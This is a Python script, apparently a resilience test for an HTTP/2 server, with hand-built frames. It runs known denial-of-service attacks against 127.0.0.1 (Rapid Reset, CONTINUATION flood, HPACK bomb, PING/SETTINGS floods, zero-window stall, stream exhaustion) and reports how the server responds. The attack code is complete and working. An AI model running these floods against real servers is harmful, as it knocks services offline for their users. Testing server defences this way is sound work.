#!/usr/bin/env python3
"""Known HTTP/2 attacks against a server on 127.0.0.1, with frames written by hand (no HTTP/2
library: each attack is exactly the bytes it names). `h2_attacks.py PORT ATTACK [N]` prints one
line `result key=value ...` and exits; every socket has a timeout, so it always ends.

Attacks:
  rapid_reset N      N streams opened and reset at once (CVE-2023-44487)
  continuation N     one header block followed by N CONTINUATION frames (CVE-2024-27316)
  hpack_bomb N       a ~4 KB header put in the dynamic table, then referenced N times in one small
                     header block; then a normal request on the same connection
  ping_flood N       N PINGs sent without reading a byte of what comes back
  settings_flood N   N SETTINGS frames sent without reading
  zero_window N      a client whose window is 0 asks for N bytes and never opens it
  too_many_streams N N streams opened at once (the server allows fewer), each to /slow?ms=300
  normal             one GET /hello (to check the server still answers)
"""
import socket, struct, sys, threading, time

DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload


def hint(n, bits, first=0):
    """An HPACK integer with a `bits`-bit prefix."""
    top = (1 << bits) - 1
    if n < top:
        return bytes([first | n])
    out = [first | top]
    n -= top
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    out.append(n)
    return bytes(out)


def hstr(b):
    return hint(len(b), 7) + b


def request_block(path=b"/hello", authority=b"weir.test"):
    # :method GET (static 2), :scheme http (static 6), :path and :authority literal with an
    # indexed name (4 and 1), without indexing.
    return bytes([0x82, 0x86]) + hint(4, 4) + hstr(path) + hint(1, 4) + hstr(authority)


class Conn:
    def __init__(self, port, settings=b"", read=True):
        self.s = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.lock = threading.Lock()
        self.goaway = None
        self.rst = {}
        self.headers = set()
        self.ended = set()
        self.data = {}
        self.closed = False
        self.s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))
        if read:
            self.reader = threading.Thread(target=self.read_loop, daemon=True)
            self.reader.start()

    def read_loop(self):
        buf = b""
        try:
            while True:
                chunk = self.s.recv(65536)
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    length = int.from_bytes(buf[0:3], "big")
                    if len(buf) < 9 + length:
                        break
                    t, flags, sid = buf[3], buf[4], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                    payload = buf[9:9 + length]
                    buf = buf[9 + length:]
                    with self.lock:
                        if t == GOAWAY:
                            self.goaway = int.from_bytes(payload[4:8], "big")
                        elif t == RST:
                            code = int.from_bytes(payload[0:4], "big")
                            self.rst[sid] = code
                        elif t == HEADERS:
                            self.headers.add(sid)
                        elif t == DATA:
                            self.data[sid] = self.data.get(sid, b"") + payload
                        if t in (HEADERS, DATA) and flags & END_STREAM:
                            self.ended.add(sid)
                    if t == SETTINGS and not flags & ACK:
                        self.send(frame(SETTINGS, ACK, 0))
        except OSError:
            pass
        with self.lock:
            self.closed = True

    def send(self, b):
        try:
            self.s.sendall(b)
            return True
        except OSError:
            return False

    def wait(self, cond, seconds=10):
        deadline = time.time() + seconds
        while time.time() < deadline:
            with self.lock:
                if cond(self):
                    return True
            time.sleep(0.02)
        return False

    def normal(self, sid):
        """A GET /hello on stream sid: True when its response ended with the upstream's answer."""
        self.send(frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block()))
        ok = self.wait(lambda c: sid in c.ended or sid in c.rst or c.closed)
        with self.lock:
            return ok and sid in self.ended and b"/hello" in self.data.get(sid, b"")


def summary(c, **extra):
    with c.lock:
        parts = [f"goaway={c.goaway if c.goaway is not None else 'none'}", f"closed={int(c.closed)}",
                 f"resets={len(c.rst)}", f"responses={len(c.ended)}"]
    parts += [f"{k}={v}" for k, v in extra.items()]
    print("result " + " ".join(parts), flush=True)


def main():
    port, attack = int(sys.argv[1]), sys.argv[2]
    n = int(sys.argv[3]) if len(sys.argv) > 3 else 0
    if attack == "normal":
        c = Conn(port)
        summary(c, served=int(c.normal(1)))
    elif attack == "rapid_reset":
        c = Conn(port)
        batch = b""
        for i in range(n):
            sid = 2 * i + 1
            batch += frame(HEADERS, END_HEADERS | END_STREAM, sid, request_block(b"/slow?ms=200"))
            batch += frame(RST, 0, sid, struct.pack(">I", 8))  # CANCEL
            if len(batch) > 16384:
                if not c.send(batch):
                    break
                batch = b""
        c.send(batch)
        c.wait(lambda c: c.goaway is not None or c.closed, 10)
        summary(c)
    elif attack == "continuation":
        c = Conn(port)
        c.send(frame(HEADERS, 0, 1, request_block()))
        sent = 0
        piece = frame(CONTINUATION, 0, 1, b"\x00" + hstr(b"x-flood") + hstr(b"y"))
        for i in range(n):
            if not c.send(piece):
                break
            sent += 1
        c.wait(lambda c: c.goaway is not None or c.closed, 10)
        summary(c, sent=sent)
    elif attack == "hpack_bomb":
        c = Conn(port)
        big = b"a" * 4000
        # Literal with incremental indexing, new name: goes into the dynamic table as index 62.
        block = request_block() + b"\x40" + hstr(b"x-bomb") + hstr(big) + hint(62, 7, 0x80) * n
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        c.wait(lambda c: 1 in c.ended or 1 in c.rst or c.closed or c.goaway is not None, 10)
        served = c.normal(3) if not c.closed and c.goaway is None else False
        summary(c, block_bytes=len(block), answered_bomb=int(1 in c.ended or 1 in c.rst), served_after=int(served))
    elif attack in ("ping_flood", "settings_flood"):
        c = Conn(port, read=False)
        one = frame(PING, 0, 0, b"12345678") if attack == "ping_flood" else frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))
        sent = 0
        c.s.settimeout(5)
        try:
            for i in range(0, n, 100):
                c.s.sendall(one * 100)
                sent += 100
        except OSError:
            pass
        # Now read: the server should have given up on this connection (GOAWAY, then closed).
        c.reader = threading.Thread(target=c.read_loop, daemon=True)
        c.reader.start()
        c.wait(lambda c: c.closed, 10)
        summary(c, sent=sent)
    elif attack == "zero_window":
        c = Conn(port, settings=struct.pack(">HI", 4, 0))
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block(f"/big?n={n}".encode())))
        ok = c.wait(lambda c: 1 in c.rst or c.closed, 30)
        summary(c, stream_reset=int(ok and 1 in c.rst))
    elif attack == "too_many_streams":
        # All of them before the server's SETTINGS is acknowledged (the reader starts after),
        # so the limit is met as RFC 9113 5.1.2 has it: streams over it are refused one by one.
        # (After the acknowledgement, nghttp2 treats the same as a connection error.)
        c = Conn(port, read=False)
        batch = b""
        for i in range(n):
            batch += frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, request_block(b"/slow?ms=300"))
        c.send(batch)
        c.reader = threading.Thread(target=c.read_loop, daemon=True)
        c.reader.start()
        c.wait(lambda c: len(c.ended) + len(c.rst) >= n or c.closed, 15)
        with c.lock:
            refused = sum(1 for code in c.rst.values() if code in (1, 7))
        summary(c, refused=refused)
    else:
        print(f"unknown attack {attack}", file=sys.stderr)
        sys.exit(2)


if __name__ == "__main__":
    main()
